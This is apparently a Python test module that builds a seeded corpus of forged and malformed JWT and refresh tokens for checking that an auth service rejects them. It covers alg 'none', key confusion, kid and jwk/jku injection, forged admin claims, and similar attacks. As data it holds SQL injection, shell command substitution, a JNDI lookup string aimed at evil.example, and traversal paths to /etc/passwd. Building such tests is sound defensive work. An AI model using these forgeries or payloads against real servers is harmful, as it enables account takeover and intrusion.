"""A corpus of hostile tokens: what is known to have fooled somebody's server, and much that should not have. Made from a seed."""

import base64
import hashlib
import hmac
import itertools
import json
import random
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import datetime, timedelta
from typing import Any
from uuid import uuid4

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec
from jwt.algorithms import ECAlgorithm

from rxapp.auth import AuthService
from rxapp.auth.core.accounts.users import find_user
from rxapp.auth.core.keys.derivation import Keys
from rxapp.auth.core.keys.jwt_keys import AccessKey, derive_access_keys
from rxapp.auth.core.tokens.refresh_tokens import RefreshTokens
from tests.dpop import DeviceKey
from tests.keys import ring_of

SEED = 8725  # the RFC with the best current practices for JWTs

ACCESS, ACCESS_HALF, REFRESH_HALF = "the access token", "the access half of a refresh", "the refresh half of a refresh"
EVERYWHERE = (ACCESS, ACCESS_HALF, REFRESH_HALF)

HASHES = {"HS256": "sha256", "HS384": "sha384", "HS512": "sha512"}
OTHER_ALGORITHMS = [
    *("RS256", "RS384", "RS512", "PS256", "ES256", "ES384", "ES512", "ES256K", "EdDSA", "Ed25519", "Ed448"),
    *("HS1", "HS256/64", "hs256", "HS256 ", "dir", "A128KW", "RSA-OAEP", "PBES2-HS256+A128KW", "", None, [], {}, 256, True),
]
TRAVERSALS = [
    *(
        "/dev/null",
        "../../../../dev/null",
        "..\\..\\nul",
        "/proc/sys/kernel/randomize_va_space",
        "file:///dev/null",
        "%2e%2e%2fkey",
    ),
    *(
        "' OR '1'='1",
        "x' UNION SELECT 'key'--",
        "'; DROP TABLE auth_user; --",
        '" OR ""="',
        "1; SELECT pg_sleep(9)",
        "x\0y",
        "\0",
    ),
    *("$(id)", "|id", "`id`", "${jndi:ldap://evil.example/x}", "{{7*7}}", "%s%s%n", "http://evil.example/key", "🔑", "\ud800"),
    *("", " ", ".", "*", "0", "null", "k" * 3000, None, True, 0, -1, 1.5, 2**70, [], [[]], {}, {"$ne": None}, ["HS256"]),
]
ADDRESSES = [
    "https://evil.example/jwks.json",
    "http://localhost/jwks.json",
    "file:///etc/passwd",
    "data:application/json,{}",
    "//x",
    "",
    1,
]
WRONG_VALUES = [None, "", "x", "\0", "🙂", "9" * 2000, [], [[]], {}, {"$gt": 0}, float("nan"), float("inf"), 1e300, 2**70]
GARBAGE = [
    *(
        "\0",
        "\n",
        "\r\n",
        "\x0b",
        "\x1f",
        "\x7f",
        "\x85",
        "\xa0",
        "\u200b",
        "\u2028",
        "\ufeff",
        "🙂",
        "\ud800",
        "é",
        "%00",
        "%20",
    ),
    *(".", "..", ".x", ",", ";", "'", '"', "+", "/", "==", "=A", "&x=1", "#", "<b>", "\\", "~", "{}", "Bearer ", "rxr1_"),
]
SPACES = [" ", "\t"]
"""Around a token a header may have them (RFC 9110 §5.5)."""

NO_NUMBERS = ("1e999", "NaN")
EXTREME_NUMBERS = ["1" + "0" * 400, "-" + "9" * 400, "9" * 1_000, *NO_NUMBERS]

LENIENT_CLAIMS = ("name", "jti", "nbf")
"""Of these the server reads no more than it wrote itself. Only its own key makes such a token."""


@dataclass(frozen=True)
class Hostile:
    """A token, what kind of attack it is, and where it must be refused."""

    kind: str
    token: str
    roles: tuple[str, ...] = EVERYWHERE


def encode(raw: bytes | str | dict | list | Any) -> str:
    if not isinstance(raw, bytes):
        raw = (raw if isinstance(raw, str) else json.dumps(raw)).encode("utf-8", "surrogatepass")
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


def decode(part: str) -> bytes:
    return base64.urlsafe_b64decode(part + "=" * (-len(part) % 4))


def signed_with(secret: bytes, header: dict, payload: dict | str, algorithm: str = "HS256") -> str:
    """By hand: PyJWT refuses the keys that an attacker would use."""
    text = f"{encode(header)}.{encode(payload)}"
    return f"{text}.{encode(hmac.digest(secret, text.encode(), HASHES[algorithm]))}"


def signed_by(key: AccessKey, header: dict, payload: dict | str) -> str:
    text = f"{encode(header)}.{encode(payload)}"
    return f"{text}.{encode(key.verifying_key.Algorithm.sign(text.encode(), key.signing_key))}"


class Corpus:
    """All of it, for one genuine pair of a session that stands."""

    def __init__(self, service: AuthService, access_token: str, refresh_token: str) -> None:
        self._service = service
        self._chance = random.Random(SEED)
        self._access, self._refresh = access_token, refresh_token
        self._header, self._payload, self._signature = access_token.split(".")
        self.claims = json.loads(decode(self._payload))
        self._names = json.loads(decode(self._header))
        self._own = derive_access_keys(Keys.derive(service.settings.secret_keys[0]))
        self._key = self._own[service.settings.access_token_algorithm]
        self._others = derive_access_keys(Keys.derive("the secret of another deployment, long enough"))
        self._attacker = ec.generate_private_key(ec.SECP256R1())

    def __iter__(self) -> Iterator[Hostile]:
        seen = {(self._access, ACCESS), (self._access, ACCESS_HALF), (self._refresh, REFRESH_HALF)}
        for hostile in self._all():
            roles = tuple(role for role in hostile.roles if (hostile.token, role) not in seen)
            seen |= {(hostile.token, role) for role in roles}
            if roles:
                yield Hostile(hostile.kind, hostile.token, roles)

    def _all(self) -> Iterator[Hostile]:
        makers = (
            self.algorithm_none,
            self.key_confusion,
            self.kid_injection,
            self.key_injection,
            self.critical_extensions,
            self.another_type,
            self.truncated,
            self.oversized,
            self.duplicated_members,
            self.wrong_claims,
            self.extreme_numbers,
            self.missing_claims,
            self.out_of_time,
            self.another_issuer_or_audience,
            self.another_deployment,
            self.bit_flips,
            self.changed_characters,
            self.not_canonical,
            self.surrounded_by_garbage,
            self.parts_out_of_place,
            self.swapped,
            self.forged_refresh_tokens,
            self.nested,
            self.random_text,
        )
        for make in makers:
            for made in make():
                kind = make.__name__.replace("_", " ")
                yield made if isinstance(made, Hostile) else Hostile(kind, made)

    def genuinely_signed(self, claims: dict | str, **header: Any) -> str:
        """As only the server could: what even its key must not make good."""
        return signed_by(self._key, self._names | header, claims)

    def algorithm_none(self) -> Iterator[str]:
        cases = {"".join(letters) for letters in itertools.product(*zip("none", "NONE", strict=True))}
        spellings = [
            *sorted(cases),
            " none",
            "none ",
            "none\0",
            "no\u200bne",
            "ｎｏｎｅ",
            "",
            "null",
            None,
            [],
            ["none"],
            {},
            0,
            False,
        ]
        for spelling in spellings:
            for names in ({"alg": spelling}, {"alg": spelling, "typ": "JWT"}, self._names | {"alg": spelling}):
                for signature in ("", self._signature, "AA", "null"):
                    yield f"{encode(names)}.{self._payload}.{signature}"
            yield f"{encode(self._names | {'alg': spelling})}.{self._payload}"

    def key_confusion(self) -> Iterator[str]:
        kids = [{"kid": key.kid} for key in self._own.values()] + [{"kid": ""}, {}]
        for algorithm, kid in itertools.product(OTHER_ALGORITHMS, kids):
            yield f"{encode({'typ': 'at+jwt', 'alg': algorithm} | kid)}.{self._payload}.{self._signature}"
        for algorithm, kid, secret in itertools.product(HASHES, kids, self._what_everybody_knows()):
            yield signed_with(secret, {"typ": "at+jwt", "alg": algorithm} | kid, self.claims, algorithm)

    def _what_everybody_knows(self) -> list[bytes]:
        """The public keys in every form in which a library may take them for an HMAC secret, and what people set by mistake."""
        formats, encodings = serialization.PublicFormat, serialization.Encoding
        known = [b"", b"secret", b"rxapp", b"\0" * 32, b"null"]
        for key in self._own.values():
            known.append(key.kid.encode())
            if key.public_jwk is not None:
                public = key.signing_key.public_key()
                pem = public.public_bytes(encodings.PEM, formats.SubjectPublicKeyInfo)
                der = public.public_bytes(encodings.DER, formats.SubjectPublicKeyInfo)
                jwk = json.dumps(key.public_jwk)
                known += [pem, pem.strip(), der, decode(key.public_jwk["x"]), key.public_jwk["x"].encode(), jwk.encode()]
        return known

    def kid_injection(self) -> Iterator[str]:
        for kid in TRAVERSALS:
            names = {"typ": "at+jwt", "alg": "HS256", "kid": kid}
            for secret in (b"", b"key", b"2", self._signature.encode(), str(kid).encode("utf-8", "replace")):
                yield signed_with(secret, names, self.claims)
            yield f"{encode(names)}.{self._payload}.{self._signature}"
            yield self.genuinely_signed(self.claims, kid=kid)

    def key_injection(self) -> Iterator[str]:
        jwk = ECAlgorithm.to_jwk(self._attacker.public_key(), as_dict=True)
        octets = {"kty": "oct", "k": encode(b"key")}
        members: list[dict] = [{"jwk": jwk}, {"jwk": octets}, {"jwk": []}, {"jwk": "x"}, {"x5c": ["MIIB"]}, {"x5c": "x"}]
        members += [{name: address} for name in ("jku", "x5u", "iss", "x5t", "x5t#S256") for address in ADDRESSES]
        for member, kid in itertools.product(members, [{}, {"kid": self._key.kid}, {"kid": "evil"}]):
            yield signed_with(b"key", {"typ": "at+jwt", "alg": "HS256"} | kid | member, self.claims)
            names = {"typ": "at+jwt", "alg": "ES256"} | kid | member
            text = f"{encode(names)}.{self._payload}"
            yield f"{text}.{encode(ECAlgorithm(ECAlgorithm.SHA256).sign(text.encode(), self._attacker))}"

    def critical_extensions(self) -> Iterator[str]:
        for critical in (["x"], ["exp"], ["b64"], [], "x", None, {}, [1], ["kid"], ["alg", "typ"], ["http://x"], [["x"]]):
            for extra in ({}, {"x": True}, {"b64": False}, {"b64": True}):
                yield f"{encode(self._names | {'crit': critical} | extra)}.{self._payload}.{self._signature}"
        for critical in (["x"], ["exp"], [], "x", [1], ["kid"]):
            yield self.genuinely_signed(self.claims, crit=critical, x=True)

    def another_type(self) -> Iterator[str]:
        for typ in (
            "JWT",
            "jwt",
            "id_token",
            "dpop+jwt",
            "logout+jwt",
            "rt+jwt",
            "secevent+jwt",
            "at+jwt ",
            "at",
            "",
            None,
            [],
            {},
            1,
        ):
            for claims in (self.claims, self.claims | {"nonce": "n"}, self.claims | {"aud": "client"}):
                yield self.genuinely_signed(claims, typ=typ)

    def truncated(self) -> Iterator[str]:
        for token in (self._access, self._refresh):
            for length in range(len(token)):
                yield token[:length]
                yield token[-length:] if length else "x"

    def oversized(self) -> Iterator[str]:
        for length in (4_097, 8_191, 8_192, 8_193, 12_000):
            yield "e" * length
            yield self._access + "A" * (length - len(self._access))
            yield self._refresh + "A" * (length - len(self._refresh))
            yield f"{self._header}.{'A' * length}.{self._signature}"
            yield f"{self._header}.{self._payload}.{'A' * length}"
            yield f"{encode(self._names | {'x': 'x' * length})}.{self._payload}.{self._signature}"
            yield "." * length
            yield "rxr1_" + "A" * length

    def duplicated_members(self) -> Iterator[str]:
        names, claims = json.dumps(self._names), json.dumps(self.claims)
        for first in ('"alg":"none"', '"alg":"HS512"', '"kid":"x"', '"kid":null', '"typ":"JWT"', '"crit":["x"]', '"":0'):
            for header in (f"{{{first},{names[1:]}", f"{names[:-1]},{first}}}"):
                yield f"{encode(header)}.{self._payload}.{self._signature}"
                yield f"{encode(header)}.{self._payload}."
        for name, value in self.claims.items():
            for other in (None, "x", [], value, str(uuid4())):
                member = f"{json.dumps(name)}:{json.dumps(other)}"
                for payload in (f"{{{member},{claims[1:]}", f"{claims[:-1]},{member}}}"):
                    yield f"{self._header}.{encode(payload)}.{self._signature}"
                    yield signed_with(b"key", self._names | {"alg": "HS256"}, payload)
            if name not in LENIENT_CLAIMS:
                yield self.genuinely_signed(f"{claims[:-1]},{json.dumps(name)}:{{}}}}")

    def wrong_claims(self) -> Iterator[str | Hostile]:
        for name, value in itertools.product(self.claims, WRONG_VALUES):
            claims = self.claims | {name: value}
            yield signed_with(b"key", self._names | {"alg": "HS256"}, claims)
            yield f"{self._header}.{encode(claims)}.{self._signature}"
            is_read = (
                name not in LENIENT_CLAIMS
                and not (name == "gen" and value == 2**70)
                and not (name == "roles" and value in ([], [[]]))
            )
            if is_read:
                yield self.genuinely_signed(claims)
        for forged in ({"sub": str(uuid4())}, {"sid": str(uuid4())}):
            yield Hostile("wrong claims", self.genuinely_signed(self.claims | forged), (ACCESS, REFRESH_HALF))
        for forged in (
            {"roles": ["Admin"]},
            {"name": "admin"},
            {"exp": 2**40},
            {"gen": 7},
            {"cnf": None},
            {"act": {"sub": "admin"}},
        ):
            yield f"{self._header}.{encode(self.claims | forged)}.{self._signature}"
        for payload in (
            "",
            "null",
            "[]",
            "0",
            '"x"',
            "{",
            "{}",
            "\ufeff{}",
            claims_as_list(self.claims),
            "true",
            "NaN",
            "{'a': 1}",
        ):
            yield f"{self._header}.{encode(payload)}.{self._signature}"
            yield self.genuinely_signed(payload)

    def extreme_numbers(self) -> Iterator[str]:
        """As they stand in a text: `json.dumps` would not write all of them."""
        for name, number in itertools.product(("exp", "iat", "nbf", "gen", "jti"), EXTREME_NUMBERS):
            payload = json.dumps(self.claims | {name: "@"}).replace('"@"', number)
            yield f"{self._header}.{encode(payload)}.{self._signature}"
            yield signed_with(b"key", self._names | {"alg": "HS256"}, payload)
            if name not in (*LENIENT_CLAIMS, "gen") or number in NO_NUMBERS:
                yield self.genuinely_signed(payload)

    def missing_claims(self) -> Iterator[str]:
        for left_out in itertools.chain(itertools.combinations(self.claims, 1), itertools.combinations(self.claims, 2)):
            claims = {name: value for name, value in self.claims.items() if name not in left_out}
            yield self.genuinely_signed(claims)

    def out_of_time(self) -> Iterator[Hostile]:
        now = int(self._service.clock().timestamp())
        for seconds in (0, 1, 2, 10, 59, 60, 300, 301, 3_600, 86_400, 10**8, now, now + 1, 2 * now):
            yield self._untimely(exp=now - seconds)
            yield self._untimely(exp=float(now - seconds))
            yield self._untimely(iat=now - 300 - seconds, nbf=now - 300 - seconds, exp=now - seconds)
        for seconds in (61, 62, 120, 300, 3_600, 86_400, 10**8, 2**33):
            yield self._untimely(iat=now + seconds, nbf=now + seconds, exp=now + seconds + 300)
            yield self._untimely(iat=now + seconds)

    def _untimely(self, **claims: float) -> Hostile:
        """The half of a refresh may be."""
        return Hostile("out of time", self.genuinely_signed(self.claims | claims), (ACCESS, REFRESH_HALF))

    def another_issuer_or_audience(self) -> Iterator[str]:
        others = [
            "RXAPP",
            "rxapp ",
            " rxapp",
            "rxapp/",
            "rxapp\0",
            "https://rxapp",
            "evil",
            "",
            "rxаpp",
            "rxap",
            "rxappx",
            "*",
            "%",
        ]
        others += [f"https://{name}.example/" for name in ("a", "b", "c", "rxapp", "login", "accounts")]
        for other in others:
            for name in ("iss", "aud"):
                yield self.genuinely_signed(self.claims | {name: other})
                yield self.genuinely_signed(self.claims | {name: [other]})
                yield self.genuinely_signed(self.claims | {name: [[other], "x"]})
            yield self.genuinely_signed(self.claims | {"iss": other, "aud": other})
        yield self.genuinely_signed(self.claims | {"iss": ["rxapp"]})

    def another_deployment(self) -> Iterator[str]:
        for (algorithm, key), own in itertools.product(self._others.items(), self._own.values()):
            for forged in ({}, {"sub": str(uuid4())}, {"roles": ["Admin"]}, {"iss": "evil"}, {"gen": 1}):
                claims = self.claims | forged
                yield key.sign(claims)
                for typ in ("at+jwt", "JWT"):
                    yield signed_by(key, {"alg": algorithm, "typ": typ, "kid": own.kid}, claims)

    def bit_flips(self) -> Iterator[str]:
        raw = decode(self._refresh.removeprefix("rxr1_"))
        for bit in range(len(raw) * 8):
            yield "rxr1_" + encode(_flipped(raw, bit))
        parts = [decode(part) for part in self._access.split(".")]
        for which, part in enumerate(parts):
            for bit in sorted(self._chance.sample(range(len(part) * 8), min(len(part) * 8, 300))):
                flipped = [encode(_flipped(part, bit) if index == which else other) for index, other in enumerate(parts)]
                yield ".".join(flipped)

    def changed_characters(self) -> Iterator[str]:
        for token in (self._access, self._refresh):
            for position in range(len(token)):
                yield token[:position] + self._chance.choice("AZaz09-_.=!*\0é") + token[position + 1 :]

    def not_canonical(self) -> Iterator[str]:
        alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
        for token in (self._access, self._refresh):
            last = alphabet.index(token[-1])
            for spare in range(1, 4):
                yield token[:-1] + alphabet[last ^ spare]
            yield token.replace("-", "+").replace("_", "/")
            for position in sorted(self._chance.sample(range(1, len(token) - 1), 40)):
                for inside in ("=", "\n", " ", "%", "+"):
                    yield token[:position] + inside + token[position:]
        yield f"{self._header}=.{self._payload}.{self._signature}"
        yield f"{self._header}.{self._payload}==.{self._signature}"
        yield self._refresh + "="

    def surrounded_by_garbage(self) -> Iterator[str | Hostile]:
        for token, garbage in itertools.product((self._access, self._refresh), GARBAGE + SPACES):
            around = (token + garbage, garbage + token, garbage + token + garbage, token + garbage + token)
            for made in around:
                is_space = garbage in SPACES and made.strip(" \t") == token
                yield Hostile("surrounded by garbage", made, (ACCESS_HALF, REFRESH_HALF)) if is_space else made
            yield token.replace("." if "." in token else "_", garbage)
            yield token.replace("." if "." in token else "_", f".{garbage}.")
        yield from (json.dumps(self._access), f"[{json.dumps(self._access)}]", f"Bearer {self._access}", self._access.upper())

    def parts_out_of_place(self) -> Iterator[str]:
        header, payload, signature = self._access.split(".")
        for count in range(1, 7):
            for parts in itertools.product((header, payload, signature, ""), repeat=count) if count < 5 else [("",) * count]:
                if list(parts) != [header, payload, signature]:
                    yield ".".join(parts)
        yield json.dumps({"protected": header, "payload": payload, "signature": signature})
        yield json.dumps({"payload": payload, "signatures": [{"protected": header, "signature": signature}]})
        yield ".".join([encode({"alg": "dir", "enc": "A128GCM"}), "", encode(b"0" * 12), payload, encode(b"0" * 16)])

    def swapped(self) -> Iterator[Hostile]:
        with self._service.database.read() as db:
            user = find_user(db, self.claims["name"])
        now, device = self._service.clock(), DeviceKey()
        links = self._service.accounts._links
        neither = [links.issue(user), self._service.dpop.new_nonce(), self._service.dpop.new_challenge()]
        neither += [proof_for(device, path, now, self._service.dpop.new_nonce()) for path in ("/api/me", "/api/token/refresh")]
        neither += [str(user.id), self.claims["sid"], self.claims["jti"], self._key.kid]
        yield from (Hostile("swapped", token) for token in neither)
        yield Hostile("swapped", self._refresh, (ACCESS, ACCESS_HALF))
        yield Hostile("swapped", self._access, (REFRESH_HALF,))

    def forged_refresh_tokens(self) -> Iterator[str]:
        raw = decode(self._refresh.removeprefix("rxr1_"))
        session, body, mac = raw[:16], raw[:20], raw[20:]
        for salt in (b"", b"\0" * 32, b"salt", session):
            for secret in ("the secret of another deployment, long enough", *self._service.settings.secret_keys):
                tokens = RefreshTokens(ring_of(secret))
                for generation in (0, 1, 2, 2**32 - 1):
                    yield tokens.issue(uuid4(), generation, salt)
                    yield "rxr1_" + encode(session + decode(tokens.issue(uuid4(), generation, salt).removeprefix("rxr1_"))[16:])
        for forged in (b"\0" * 32, b"\xff" * 32, mac[::-1], hashlib.sha256(body).digest(), hmac.digest(b"", body, "sha256")):
            for generation in (0, 1, 7, 2**31, 2**32 - 1):
                yield "rxr1_" + encode(session + generation.to_bytes(4, "big") + forged)
        for prefix in ("", "rxr2_", "RXR1_", "rxp1_", "rxr1-", "rxr1__", "rxr1_rxr1_", " rxr1_"):
            yield prefix + self._refresh.removeprefix("rxr1_")
        for length in range(52):
            yield "rxr1_" + encode(raw[:length])
            yield "rxr1_" + encode(raw + bytes(length + 1))

    def nested(self) -> Iterator[str]:
        deep = [
            "[" * 900,
            "[" * 2_900,
            '{"a":' * 500,
            "[" * 900 + "]" * 900,
            '{"alg":' * 400,
            "9" * 2_900,
            "-" * 2_900,
            '"' + "\\" * 2_000,
        ]
        deep += ['{"typ":"at+jwt","kid":' + inner for inner in deep] + [
            '{"alg":"HS256","typ":"at+jwt","kid":{}}' + inner for inner in deep
        ]
        for text in deep:
            yield f"{encode(text)}.{self._payload}.{self._signature}"
            yield f"{self._header}.{encode(text)}.{self._signature}"
            yield signed_with(b"key", self._names | {"alg": "HS256"}, text)
        yield from (self.genuinely_signed(text) for text in deep[:8])

    def random_text(self) -> Iterator[str]:
        signs = [*map(chr, range(256)), "\u200b", "\u2028", "🙂", "\ud800", "\udfff", "\uffff", "ß", "İ"]
        for _ in range(250):
            yield "x" + "".join(self._chance.choices(signs, k=self._chance.randrange(1, 300)))
            yield ".".join(encode(self._chance.randbytes(self._chance.randrange(1, 90))) for _ in range(3))
            yield "rxr1_" + encode(self._chance.randbytes(52))


def claims_as_list(claims: dict) -> str:
    return json.dumps(list(claims.items()))


def proof_for(device: DeviceKey, path: str, now: datetime, nonce: str) -> str:
    return device.proof("GET", f"http://testserver{path}", now + timedelta(0), nonce=nonce)


def _flipped(raw: bytes, bit: int) -> bytes:
    changed = bytearray(raw)
    changed[bit // 8] ^= 1 << bit % 8
    return bytes(changed)
